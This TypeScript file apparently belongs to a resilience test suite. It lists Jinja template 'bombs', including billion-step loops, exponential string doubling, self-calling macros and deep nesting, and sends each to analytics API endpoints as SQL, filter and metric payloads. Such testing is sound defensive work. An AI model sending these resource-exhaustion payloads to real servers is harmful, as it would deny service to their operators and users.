import { type AttackedDatabase, type Bomb, chartData, execute } from "./bomb.ts";

/** Templates that do not come to an end, or whose text is larger than memory. */
const TEMPLATES: Record<string, string> = {
  "a loop of a billion": "{% for i in range(1000000000) %}x{% endfor %}",
  "loops in loops":
    "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}x{% endfor %}{% endfor %}{% endfor %}",
  "a long text": "{{ 'x' * 1000000000 }}",
  "a text that doubles":
    "{% set ns = namespace(a='xxxxxxxxxx') %}{% for i in range(60) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}{{ ns.a }}",
  "a list that doubles":
    "{% set ns = namespace(a=[1]) %}{% for i in range(60) %}{% set ns.a = ns.a + ns.a %}{% endfor %}{{ ns.a }}",
  "a macro that calls itself": "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
  "a power": "{{ 9 ** 9 ** 9 ** 9 }}",
  "nested blocks": `${"{% if true %}".repeat(5_000)}1${"{% endif %}".repeat(5_000)}`,
  "nested brackets": `{{ ${"(".repeat(20_000)}1${")".repeat(20_000)} }}`,
  "a chain of filters": `{{ 'a'${"|upper".repeat(50_000)} }}`,
  "many blocks": "{{ 1 }}".repeat(100_000),
  "unclosed blocks": "{% for i in range(3) %}".repeat(20_000),
  "openings alone": "{{".repeat(400_000),
  "a join of all": "{{ range(100000000)|join(',') }}",
  "a sort of all": "{{ range(50000000)|list|sort|first }}",
  "a replacement": "{{ ('a' * 5000000)|replace('a', 'aaaaaaaaaa') }}",
  "many macros of the server": "{% for i in range(100000) %}{{ current_user_id() }}{% endfor %}",
  "many datasets": "{% for i in range(100000) %}{{ dataset(1) }}{% endfor %}",
};

/** Each template as a statement, in a filter and in a metric. */
export function templateBombs(databases: readonly AttackedDatabase[]): Bomb[] {
  return Object.entries(TEMPLATES).flatMap(([name, template], at) => {
    const database = databases[at % databases.length] as AttackedDatabase;
    return [
      {
        name: `${name}: run`,
        kind: "template",
        path: "/api/v1/sqllab/execute/",
        payload: () => execute(database, `select 1 -- ${template}`),
      },
      {
        name: `${name}: filter`,
        kind: "template",
        path: "/api/v1/chart/data",
        payload: () => chartData(database, { columns: ["id"], extras: { where: `name = '${template}'` } }),
      },
      {
        name: `${name}: metric`,
        kind: "template",
        path: "/api/v1/chart/data",
        payload: () =>
          chartData(database, {
            metrics: [{ expressionType: "SQL", sqlExpression: `count(*) + ${template}`, label: "bomb" }],
          }),
      },
    ];
  });
}
